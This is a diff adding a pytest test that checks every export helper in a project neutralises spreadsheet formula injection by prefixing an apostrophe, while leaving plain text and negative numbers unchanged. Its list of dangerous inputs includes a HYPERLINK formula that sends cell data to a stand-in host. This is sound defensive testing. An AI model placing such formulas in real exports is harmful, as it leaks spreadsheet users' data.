@@ -1,0 +1,29 @@
+"""One rule for formula injection in every export (issue 7, "Exports"): core.exports.safe_cell, which
+the imports, events, dashboards and API exports all call."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+
+import pytest
+
+from core.api.renderers import neutralise as api_neutralise
+from core.exports import safe_cell
+from dashboards.export import _cell as dashboard_cell
+from events.exports import safe_cell as events_safe_cell
+from imports.exporters import neutralise as imports_neutralise
+
+DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1)', "＝1"]
+HARMLESS = ["晋中", "榆次区 = 1", "a-b", ""]
+NUMBERS = [-1, 0, 5, -1.5, Decimal("-3500.5"), Decimal("12")]
+HELPERS = [safe_cell, imports_neutralise, events_safe_cell, dashboard_cell, api_neutralise]
+
+
+@pytest.mark.parametrize("helper", HELPERS, ids=lambda h: f"{h.__module__}.{h.__name__}")
+def test_every_export_helper_applies_the_shared_rule(helper):
+    for text in DANGEROUS:
+        assert helper(text) == "'" + text, text  # shown as text, never run
+    for text in HARMLESS:
+        assert helper(text) == text, text
+    for number in NUMBERS:  # a negative number is data, not a formula: it stays a number
+        assert helper(number) == number and not isinstance(helper(number), str), number
